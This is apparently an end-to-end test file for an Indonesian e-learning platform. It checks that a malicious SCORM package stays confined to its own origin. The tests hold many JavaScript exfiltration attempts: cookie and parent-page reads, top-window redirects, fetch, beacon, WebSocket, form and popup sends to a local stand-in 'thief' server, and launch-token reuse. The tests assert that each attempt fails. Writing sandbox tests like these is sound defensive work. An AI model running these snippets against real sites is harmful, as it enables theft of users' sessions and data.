"""A malicious package: whatever it tries, it stays within its own origin and its own learner."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from bina.learning.tests.packages import SCORM_12

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext, Frame, Page

    from tests.e2e.conftest import Installation

ROOT = Path(__file__).resolve().parents[2]


class Thief:
    """A server elsewhere that would get what the package steals; it remembers every request."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_OPTIONS = do_GET  # noqa: N815  # the names are the library's

            def log_message(self, *_words: object) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def thief() -> Iterator[Thief]:
    made = Thief()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture(scope="module")
def world(installation: Installation, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One learner in two courses: one with a malicious package, one with an honest one."""
    folder = tmp_path_factory.mktemp("packages")
    paths = []
    for name in ("jahat", "jujur"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for path, data in {**SCORM_12, "sw.js": b"self.addEventListener('fetch', () => {})"}.items():
                archive.writestr(path, data)
        (folder / f"{name}.zip").write_bytes(out.getvalue())
        paths.append(str(folder / f"{name}.zip"))
    done = subprocess.run(
        [sys.executable, "scripts/try_packages.py", "--prepare", *paths],
        env={**installation.environment, "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
        check=True,
        capture_output=True,
        text=True,
    )
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


@pytest.fixture(scope="module")
def signed_in(browser: Browser, base_url: str, world: dict[str, Any]) -> Iterator[BrowserContext]:
    """The learner's browser."""
    context = browser.new_context(base_url=base_url, locale="id-ID")
    page = context.new_page()
    page.goto("/akun/login/")
    page.get_by_label("NIP").fill(world["login"])
    page.get_by_label("Kata sandi").fill(world["password"])
    page.get_by_role("button", name="Masuk", exact=True).click()
    page.wait_for_url("**/")
    page.close()
    yield context
    context.close()


@pytest.fixture
def page(signed_in: BrowserContext) -> Iterator[Page]:
    made = signed_in.new_page()
    yield made
    for one in signed_in.pages:
        one.close()


@pytest.fixture
def content(page: Page, world: dict[str, Any]) -> Frame:
    """The malicious package, opened by the learner; its frame."""
    return opened(page, world["packages"][0])


def opened(page: Page, package: dict[str, Any]) -> Frame:
    page.goto(package["page"])
    inside = page.frame_locator("[data-content] iframe").frame_locator("#stage iframe")
    expect(inside.get_by_text("Satu")).to_be_visible(timeout=60_000)
    return next(frame for frame in page.frames if frame.url.endswith("/satu/index.html?mulai=1"))


TRY = """async (script) => {
  try { return 'done: ' + String(await eval('(async () => {' + script + '})()')); }
  catch (error) { return 'refused'; }
}"""
LOADED = "new Promise((good, bad) => {{ %s.onload = good; %s.onerror = bad; %s; }})"


def loaded(name: str, begin: str) -> str:
    """Waits until something has loaded; ``begin`` sets it off."""
    return "return " + LOADED % (name, name, begin)


def tried(frame: Frame, script: str) -> str:
    """What came of a script in the package: ``done: …`` when it got through, else ``refused``."""
    return str(frame.evaluate(TRY, script))


def test_it_sees_no_cookie_neither_its_own_nor_the_session(content: Frame) -> None:
    assert tried(content, "return document.cookie") == "done: "
    assert content.page.context.cookies(content.url) == []
    assert {one["name"] for one in content.page.context.cookies()} >= {"bina"}


def test_it_runs_on_an_origin_of_its_own(content: Frame, base_url: str) -> None:
    host = urlsplit(content.url).hostname or ""
    assert host.endswith(".content.localhost")
    assert host != urlsplit(base_url).hostname


LOOKS = (
    "return parent.parent.document.title",
    "return top.document.cookie",
    "return top.localStorage.length",
    "return top.location.href",
    "top.document.body.innerHTML = 'dicuri'; return 1",
    "return parent.parent.indexedDB.databases()",
)


def test_it_cannot_look_into_the_page_around_it(content: Frame) -> None:
    assert {script: tried(content, script) for script in LOOKS} == dict.fromkeys(LOOKS, "refused")


def test_it_cannot_lead_the_page_around_it_elsewhere(content: Frame, thief: Thief) -> None:
    before = content.page.url
    tried(content, f"top.location = '{thief.url}/atas'; return 1")
    tried(content, f"parent.parent.location.replace('{thief.url}/induk'); return 1")
    expect(content.page).to_have_url(before)
    assert [path for path in thief.heard if path in {"/atas", "/induk"}] == []


REACHES = {
    "fetch": "return (await fetch('{url}/fetch')).status",
    "no-cors": "return (await fetch('{url}/no-cors', {{mode: 'no-cors'}})).type",
    "xhr": "const x = new XMLHttpRequest(); " + loaded("x", "x.open('GET', '{url}/xhr'); x.send()"),
    "img": "const i = new Image(); " + loaded("i", "i.src = '{url}/img'"),
    "script": "const s = document.createElement('script'); "
    + loaded("s", "s.src = '{url}/script'; document.head.append(s)"),
    "style": "const s = document.createElement('link'); s.rel = 'stylesheet'; "
    + loaded("s", "s.href = '{url}/style'; document.head.append(s)"),
    "worker": "return await (await fetch('{url}/worker')).text().then((t) => new Worker(t))",
    "module": "return await import('{url}/module')",
    "socket": "const s = new WebSocket('{url}/socket'.replace('http', 'ws')); "
    "return new Promise((good, bad) => {{ s.onopen = good; s.onerror = bad; }})",
    "events": "const s = new EventSource('{url}/events'); "
    "return new Promise((good, bad) => {{ s.onopen = good; s.onerror = bad; }})",
}


def test_it_reaches_nothing_beyond_its_own_origin(content: Frame, thief: Thief) -> None:
    came = {name: tried(content, script.format(url=thief.url)) for name, script in REACHES.items()}
    assert came == dict.fromkeys(REACHES, "refused")
    assert [path for path in thief.heard if path.removeprefix("/") in REACHES] == []


@pytest.mark.parametrize(
    ("name", "script"),
    [
        ("beacon", "navigator.sendBeacon('{url}/beacon', 'rahasia')"),
        ("popup", "window.open('{url}/popup?rahasia')"),
        (
            "form",
            "const f = document.createElement('form'); f.method = 'post'; f.action = '{url}/form';"
            " document.body.append(f); f.submit()",
        ),
        (
            "blank",
            "const a = document.createElement('a'); a.href = '{url}/blank'; a.target = '_blank';"
            " document.body.append(a); a.click()",
        ),
        (
            "ping",
            "const a = document.createElement('a'); a.href = '#'; a.ping = '{url}/ping';"
            " document.body.append(a); a.click()",
        ),
        (
            "frame",
            "const f = document.createElement('iframe'); f.src = '{url}/frame'; document.body.append(f)",
        ),
        (
            "prefetch",
            "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{url}/prefetch';"
            " document.head.append(l)",
        ),
        ("itself", "location.href = '{url}/itself?rahasia'"),
        ("wrapper", "parent.location.href = '{url}/wrapper?rahasia'"),
        (
            "inside-wrapper",
            "parent.eval(\"location.href = '{url}/inside-wrapper?rahasia'\")",
        ),
        (
            "refresh",
            "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
            " m.content = '0;url={url}/refresh'; document.head.append(m)",
        ),
    ],
)
def test_what_it_sends_off_without_waiting_does_not_arrive(
    content: Frame, thief: Thief, name: str, script: str
) -> None:
    page = content.page
    tried(content, script.format(url=thief.url))
    # A page that is opened afterwards has gone through the same browser: what was to arrive has arrived.
    other = page.context.new_page()
    other.goto(f"{thief.url}/sesudah-{name}")
    other.close()
    assert [path for path in thief.heard if urlsplit(path).path == f"/{name}"] == []
    assert len(page.context.pages) == 1


def test_it_can_put_no_service_worker_of_its_own_in_between(content: Frame) -> None:
    key = urlsplit(content.url).path.split("/")[1]
    assert tried(content, f"return await navigator.serviceWorker.register('/{key}/sw.js')") == "refused"


def test_the_application_does_not_answer_it(content: Frame, base_url: str) -> None:
    assert tried(
        content, f"return (await fetch('{base_url}/belajar/', {{credentials: 'include'}})).status"
    ) == ("refused")
    assert tried(content, "return (await fetch('/belajar/')).status") == "done: 404"
    assert tried(content, "return (await fetch('/akun/login/')).status") == "done: 404"


def test_it_cannot_read_another_package(content: Frame, page: Page, world: dict[str, Any]) -> None:
    honest = opened(page, world["packages"][1]).url
    again = opened(page, world["packages"][0])
    assert urlsplit(honest).hostname != urlsplit(again.url).hostname
    assert tried(again, f"return (await fetch('{honest}')).status") == "refused"
    key = urlsplit(honest).path.split("/")[1]
    assert tried(again, f"return (await fetch('/{key}/satu/index.html')).status") == "done: 404"


def test_its_token_brings_nothing_for_another_activity(
    content: Frame, page: Page, world: dict[str, Any]
) -> None:
    mine, other = world["packages"]
    token = page.request.get(mine["launch"]).json()["token"]
    entry = {
        "id": "0190a1b2-0000-7000-8000-000000000001",
        "kind": "scorm.commit",
        "enrolment": other["enrolment"],
        "activity": other["activity"],
        "made_at": "2026-01-01T00:00:00Z",
        "body": {
            "launch": "x",
            "launched_at": "2026-01-01T00:00:00Z",
            "sequence": 1,
            "item": "ITEM-1",
            "finished": False,
            "cmi": {"core": {"lesson_status": "incomplete"}},
        },
    }
    body = json.dumps({"token": token, "entries": [entry]})
    answer = tried(
        content,
        f"return (await fetch('/_bina/kirim', {{method: 'POST', body: {json.dumps(body)}}})).status",
    )
    assert answer == "done: 200"
    assert page.request.get(other["launch"]).json()["place"] == {}


def test_the_record_store_does_not_take_the_launch_token(
    content: Frame, page: Page, world: dict[str, Any]
) -> None:
    token = page.request.get(world["packages"][0]["launch"]).json()["token"]
    headers = {"X-Experience-API-Version": "1.0.3", "Authorization": f"Bearer {token}"}
    script = f"return (await fetch('/xapi/statements', {{headers: {json.dumps(headers)}}})).status"
    assert tried(content, script) == "done: 401"


def test_a_package_is_not_shown_in_a_window_of_its_own(content: Frame) -> None:
    answer = content.page.context.new_page().goto(content.url)
    assert answer is not None
    assert answer.status == 403


def test_no_answer_of_a_content_origin_sets_a_cookie(content: Frame, page: Page) -> None:
    seen: list[str] = []
    page.on(
        "response",
        lambda response: (
            seen.append(response.headers.get("set-cookie", ""))
            if (".content.localhost" in response.url)
            else None
        ),
    )
    page.reload()
    expect(
        page.frame_locator("[data-content] iframe").frame_locator("#stage iframe").get_by_text("Satu")
    ).to_be_visible()
    assert len(seen) > 2
    assert set(seen) == {""}
